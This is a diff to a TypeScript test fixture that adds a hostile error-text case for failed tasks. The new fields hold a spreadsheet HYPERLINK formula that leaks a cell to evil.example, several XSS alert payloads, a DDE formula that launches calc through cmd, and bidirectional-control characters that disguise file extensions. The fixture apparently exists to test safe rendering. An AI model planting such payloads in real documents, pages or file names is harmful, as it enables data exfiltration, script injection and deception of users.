@@ -32,9 +32,29 @@ export const HOSTILE_TASK_IDS = {
   unknownTaskStatus: id(19),
   unknownYunCode: id(20),
   quotesCommasNewlines: id(21),
+  // 22–33 are the triage cases' (triage.ts).
+  hostileErrorText: id(34),
 } as const satisfies Record<string, string>;
 
 export type HostileName = keyof typeof HOSTILE_TASK_IDS;
+
+/** Bidirectional controls: RLO, LRI, RLI, FSI, PDI, RLM, and a PDF closing the override. */
+const BIDI = '\u202E\u2066\u2067\u2068\u2069\u200F\u202C';
+
+/**
+ * The hostile error text of a failed task: ErrTip and ErrMsg with markup, a formula start,
+ * direction controls and one very long line (over 4 KB, no line break, one word of 4,500
+ * characters).
+ */
+export const HOSTILE_ERROR_TEXT = {
+  ErrCode: 'waf_openapi.Instance.NotFound',
+  ErrTip:
+    '=HYPERLINK("http://evil.example/?leak="&A1,"Fix it")<img src=x onerror=alert("xss-errtip")>' +
+    `<script>alert("xss-errtip")</script> exe.${BIDI}txt ` +
+    // One line of 4,500 characters with no space to break at.
+    `Check the component output: ${'retry-after-the-window-closes;'.repeat(150)} [end of tip]`,
+  ErrMsg: `@SUM(1+1)*cmd|' /C calc'!A0 <svg onload=alert("xss-errmsg")></svg>${BIDI}gpj.exe <b>bold</b>`,
+} as const;
 
 /** A 200 KB JSON document (valid JSON, deeply boring) for InputParams. */
 function hugeInputParams(): string {
@@ -165,6 +185,7 @@ export function hostileTasks(now: number): ProcessTask[] {
         SceneName: 'Block, "quoted"\nscene',
       }),
     ),
+    base('hostileErrorText', failed({ ...HOSTILE_ERROR_TEXT })),
   ].map((t) => {
     // Drop keys explicitly set to undefined so "missing" really is missing in JSON and in `in`.
     for (const k of Object.keys(t)) if (t[k] === undefined) delete t[k];
